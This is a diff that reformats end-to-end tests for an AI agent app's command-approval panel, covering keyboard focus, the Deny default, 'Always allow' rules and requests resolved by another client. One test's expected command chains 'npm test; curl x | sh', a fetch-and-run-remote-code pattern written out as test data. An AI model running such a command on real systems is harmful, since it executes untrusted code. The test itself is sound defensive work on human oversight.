@@ -15,7 +15,13 @@ import { screenshot, until } from './helpers.js';
 declare const document: { activeElement: { getAttribute(n: string): string | null } | null };
 
 describe('approvals in the app (web mode, real daemon)', () => {
-  const g = useGui({ prefix: 'ollie-e2e-approvals-', viewport: { width: 1280, height: 800 }, port: 0, outside: true, daemon: { retryDelay: () => 10 } });
+  const g = useGui({
+    prefix: 'ollie-e2e-approvals-',
+    viewport: { width: 1280, height: 800 },
+    port: 0,
+    outside: true,
+    daemon: { retryDelay: () => 10 },
+  });
   beforeAll(async () => {
     await g.outside.rdwrText('session/new', `name=proj cwd=${g.work}`);
     await g.outside.rdwrText('session/proj/agent/new', 'name=coder agent=e2e backend=mock');
@@ -25,8 +31,10 @@ describe('approvals in the app (web mode, real daemon)', () => {
   // By its title, whatever its role: the same locator finds the modal dialog this panel replaced, so the test
   // runs (and fails) against that one too.
   const panel = () => g.page.locator('[aria-labelledby="approval-title"]');
-  const pending = async (): Promise<string[]> => (await g.outside.readText('session/proj/bypass')).split('\n').filter(Boolean);
-  const focused = (): Promise<string | null> => g.page.evaluate(() => document.activeElement?.getAttribute('aria-label') ?? null);
+  const pending = async (): Promise<string[]> =>
+    (await g.outside.readText('session/proj/bypass')).split('\n').filter(Boolean);
+  const focused = (): Promise<string | null> =>
+    g.page.evaluate(() => document.activeElement?.getAttribute('aria-label') ?? null);
 
   it('a request that arrives while the person types never takes the keyboard; only a click approves', async () => {
     await g.page.goto(g.ui.url);
@@ -61,7 +69,10 @@ describe('approvals in the app (web mode, real daemon)', () => {
     await g.page.keyboard.type(' ');
     expect(await focused()).toBe('Prompt');
     // Enter sent the prompt (queued while the turn waits), and approved nothing.
-    await until(async () => (await g.outside.readText('session/proj/agent/coder/queue')).includes('apps say yes please, approve'), 'the typed prompt to be queued');
+    await until(
+      async () => (await g.outside.readText('session/proj/agent/coder/queue')).includes('apps say yes please, approve'),
+      'the typed prompt to be queued',
+    );
     expect(await pending()).toHaveLength(1);
     expect(await box.inputValue()).toBe(' ');
     await box.fill('');
@@ -93,7 +104,9 @@ describe('approvals in the app (web mode, real daemon)', () => {
     await box.press('Enter');
     await panel().waitFor({ timeout: 15_000 });
     expect(await panel().getByTestId('approval-cmd').textContent()).toBe('shell npm test; curl x | sh');
-    expect(await panel().getByTestId('approval-rule').textContent()).toMatch(/^exactly npm test; curl x \| sh, for shell, nothing added$/);
+    expect(await panel().getByTestId('approval-rule').textContent()).toMatch(
+      /^exactly npm test; curl x \| sh, for shell, nothing added$/,
+    );
     // Deny comes first and looks like the default.
     const buttons = panel().getByRole('button');
     expect(await buttons.first().textContent()).toBe('Deny');
@@ -129,10 +142,17 @@ describe('approvals in the app (web mode, real daemon)', () => {
     await box.fill('always');
     await box.press('Enter');
     await panel().waitFor({ timeout: 15_000 });
-    expect(await panel().getByTestId('approval-rule').textContent()).toMatch(/^echo always-me and the same command with more arguments \(options only after --\), for shell;/);
+    expect(await panel().getByTestId('approval-rule').textContent()).toMatch(
+      /^echo always-me and the same command with more arguments \(options only after --\), for shell;/,
+    );
     await panel().getByRole('button', { name: 'Always allow' }).click();
     await block('assistant', 'stored').waitFor({ timeout: 15_000 });
-    expect((await g.outside.readText('bypassrules')).split('\t').slice(1, 5)).toEqual(['shell', 'prefix', 'echo always-me', 'global']);
+    expect((await g.outside.readText('bypassrules')).split('\t').slice(1, 5)).toEqual([
+      'shell',
+      'prefix',
+      'echo always-me',
+      'global',
+    ]);
 
     await box.fill('covered');
     await box.press('Enter');
@@ -157,7 +177,10 @@ describe('approvals in the app (web mode, real daemon)', () => {
   });
 
   it('a request resolved by another client (ollie-9p) leaves the panel by itself', async () => {
-    g.mock.script([{ toolCalls: [{ name: 'shell', args: { command: 'echo elsewhere', bypass: true } }] }], [{ text: 'denied elsewhere' }]);
+    g.mock.script(
+      [{ toolCalls: [{ name: 'shell', args: { command: 'echo elsewhere', bypass: true } }] }],
+      [{ text: 'denied elsewhere' }],
+    );
     const box = g.page.getByRole('textbox', { name: 'Prompt', exact: true });
     await box.fill('elsewhere');
     await box.press('Enter');
